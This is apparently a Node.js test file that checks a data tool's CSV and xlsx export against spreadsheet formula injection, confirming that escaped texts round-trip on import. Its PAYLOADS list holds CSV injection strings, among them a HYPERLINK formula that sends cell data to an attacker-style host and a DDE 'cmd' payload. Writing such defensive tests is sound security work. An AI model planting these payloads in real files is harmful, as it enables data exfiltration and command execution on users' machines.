// Export to CSV never hands Excel or LibreOffice a formula: a text beginning with =, +, -, @, a tab or a
// CR gets a leading apostrophe (shown and kept as text), numbers stay numbers, and import reads the text
// back without the apostrophe. The .xlsx holds such texts as text cells, never as formulas.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseCsv } from '../dist/sheet/csv.js';
import { loadExcel } from '../dist/cli/workbook.js';
import { run, samplePath, tempFolder } from './helpers.js';

const { tmp } = tempFolder('sa-formula-');

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
];

/** Import trims spaces, tabs and line breaks around a cell's text, so those do not come back. */
const TRIMMED = PAYLOADS.filter((p) => p === p.trim());

function hostileAgreement(payloads = PAYLOADS) {
  const doc = JSON.parse(readFileSync(samplePath('midt-2024-2027'), 'utf8'));
  payloads.forEach((payload, i) => {
    const indicator = doc.indicators[i];
    indicator.name = payload;
    indicator.description = { da: payload, en: payload };
    indicator.unit = payload.trim() || indicator.unit;
    indicator.source = { name: payload };
  });
  doc.areas[1].name = '=1+2';
  doc.indicators[0].series[0].value = -1.5;
  doc.indicators[0].series[1].value = -1e-7;
  const path = tmp('aftale.json');
  writeFileSync(path, JSON.stringify(doc, null, 2));
  return { doc, path };
}

test('export --csv guards every text that would start a formula; negative numbers stay numbers', async () => {
  const { path } = hostileAgreement();
  const csv = tmp('csv');
  const r = await run('export', path, '--csv', csv);
  assert.equal(r.code, 0, r.stderr);
  for (const file of ['indikatorer.csv', 'vaerdier.csv', 'omraader.csv', 'aftale.csv']) {
    const rows = parseCsv(readFileSync(join(csv, file), 'utf8'));
    for (const [i, row] of rows.entries())
      for (const cell of row) {
        // What a spreadsheet would run: = + - @ (after spaces), or a leading tab/CR/LF.
        const formula = /^(?:[ \u00a0]*[=+\-@]|[\t\r\n])/.test(cell);
        const number = /^-?\d+(?:,\d+)?(?:E-?\d+)?$/i.test(cell);
        assert.ok(!formula || number, `${file} row ${i + 1}: ${JSON.stringify(cell)}`);
      }
  }
  const values = readFileSync(join(csv, 'vaerdier.csv'), 'utf8');
  assert.match(values, /;-1,5\r\n/, 'a negative number is written as a number');
  const indicators = readFileSync(join(csv, 'indikatorer.csv'), 'utf8');
  assert.ok(indicators.includes(`'=HYPERLINK(`), 'the formula text is kept, behind an apostrophe');
  assert.ok(readFileSync(join(csv, 'omraader.csv'), 'utf8').includes(`'=1+2`));
});

test('import of the guarded CSV gives back the very same texts (0 changes)', async () => {
  const { path } = hostileAgreement(TRIMMED);
  const csv = tmp('csv');
  assert.equal((await run('export', path, '--csv', csv)).code, 0);
  const r = await run('import', csv, '--into', path, '--dry-run', '--lang', 'en');
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /^0 changes\. Valid; nothing written/m, r.stderr);
});

test('export --out .xlsx writes such texts as text cells, never as formulas', async () => {
  const { path } = hostileAgreement(TRIMMED);
  const xlsx = tmp('tal.xlsx');
  assert.equal((await run('export', path, '--out', xlsx)).code, 0);
  const ExcelJS = await loadExcel();
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(xlsx);
  let formulas = 0;
  let texts = 0;
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        if (cell.value === PAYLOADS[0]) texts++;
      }),
    ),
  );
  assert.equal(formulas, 0);
  assert.ok(texts >= 2, 'name and description are there as text');
  const r = await run('import', xlsx, '--into', path, '--dry-run', '--lang', 'en');
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /^0 changes\./m);
});
